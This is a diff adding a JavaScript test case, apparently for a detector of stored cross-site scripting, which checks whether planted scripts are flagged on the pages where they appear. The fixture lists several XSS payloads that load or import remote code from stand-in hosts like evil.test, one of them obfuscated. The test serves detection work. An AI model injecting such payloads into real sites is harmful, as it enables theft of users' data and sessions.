@@ -69,6 +69,29 @@ describe('the texts of scripts', () => {
     expect(planted("how does fetch('/profile') send fullname and city?").naming(save)).toBeUndefined();
   });
 
+  it('that do not tell what they ask for are known by the pages where they may stand', () => {
+    const from = '/product/{digits}';
+    for (const text of [
+      '<script src="//cdn.evil.test/a.js"></script>',
+      '<img src=x onerror="import(`//evil.test/a.js`)">',
+      "<script>var s=document.createElement('script');s.src='//evil.test/a';document.body.append(s)</script>",
+      "<script>self['fe'+'tch'](['','pro','file'].join(String.fromCharCode(47)))</script>",
+    ]) {
+      expect(planted(text).unreadOn(from, 'victim')).toEqual({
+        event: 'plant',
+        timeUs: 5,
+        parameter: 'body',
+        pages: [from],
+      });
+      expect(planted(text).unreadOn('/other', 'victim')).toBeUndefined();
+      expect(planted(text).unreadOn(undefined, 'victim')).toBeDefined();
+      expect(planted(text, false).unreadOn(from, 'victim')).toBeUndefined();
+      expect(planted(text, false).unreadOn(from, 'attacker')).toBeDefined();
+    }
+    for (const text of [POST, '<script>alert(1)</script>', 'how does <b>import("//evil.test")</b> work?'])
+      expect(planted(text).unreadOn(from, 'victim')).toBeUndefined();
+  });
+
   it('are bounded: the oldest go first', () => {
     const texts = planted(POST);
     for (let n = 0; n < 256; n++) {
